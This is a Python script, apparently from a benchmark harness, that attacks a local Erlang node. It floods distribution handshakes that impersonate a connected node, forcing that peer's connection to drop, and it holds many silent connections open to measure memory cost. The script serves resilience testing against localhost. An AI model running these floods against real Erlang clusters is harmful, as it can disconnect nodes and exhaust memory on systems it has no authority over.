"""The attacks of `girder bench -w attack` that apply to Erlang distribution, against a running
Erlang node: a flood of handshakes claiming a connected node's name (answering "alive" with
"true", which asks the acceptor to drop the old connection), and silent connections held open.
Used by attack.sh; prints one JSON object."""
import json, re, socket, struct, subprocess, sys, time
from multiprocessing import Process, Value

# The capability flags OTP 25 itself sends (handshake version 6).
FLAGS = (0x1 | 0x4 | 0x8 | 0x10 | 0x20 | 0x80 | 0x100 | 0x200 | 0x400 | 0x800 | 0x1000
         | 0x4000 | 0x10000 | 0x20000 | 0x40000 | 0x80000 | 0x100000 | 0x400000 | 0x800000
         | 0x1000000 | 0x2000000 | (1 << 32) | (1 << 34) | (1 << 35))


def epmd_port(node):
    out = subprocess.run(["epmd", "-names"], capture_output=True, text=True).stdout
    return int(re.search(r"name %s at port (\d+)" % node, out).group(1))


def claim(port, name, creation):
    """send_name as `name`; to "alive", answer "true"; then hang up at the challenge."""
    s = socket.create_connection(("127.0.0.1", port), timeout=2)
    body = b"N" + struct.pack(">QIH", FLAGS, creation, len(name)) + name.encode()
    s.sendall(struct.pack(">H", len(body)) + body)
    status = s.recv(64)[2:]
    if status == b"salive":
        s.sendall(struct.pack(">H", 5) + b"strue")
        try:
            s.recv(64)
        except OSError:
            pass
    s.close()


def flooder(port, name, until, count, first):
    c = first
    while time.time() < until:
        c += 1
        try:
            claim(port, name, c)
            with count.get_lock():
                count.value += 1
        except OSError:
            pass


def rss(pid):
    for line in open("/proc/%d/status" % pid):
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024


def silent(port, pid, n):
    time.sleep(0.5)
    before = rss(pid)
    held = []
    for i in range(n):
        s = socket.socket()
        s.bind(("127.0.0.%d" % (2 + i % 16), 0))
        s.connect(("127.0.0.1", port))
        held.append(s)
    time.sleep(1.0)
    return (rss(pid) - before) / n


if __name__ == "__main__":
    victim, peer, pid, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    port = epmd_port(victim.split("@")[0])
    # Memory first, while the node is quiet (a flood leaves garbage that is collected later).
    pending_256 = silent(port, pid, 256)
    time.sleep(1)
    pending_2000 = silent(port, pid, 2000)
    time.sleep(1)
    count = Value("L", 0)
    until = time.time() + seconds
    procs = [Process(target=flooder, args=(port, peer, until, count, 1000 + 100000 * i))
             for i in range(8)]
    for p in procs:
        p.start()
    for p in procs:
        p.join()
    result = {"system": "erlang", "workload": "attack",
              "claims_per_s": round(count.value / seconds, 1)}
    result["pending_bytes_256"] = round(pending_256)
    result["pending_bytes_2000"] = round(pending_2000)
    print(json.dumps(result))
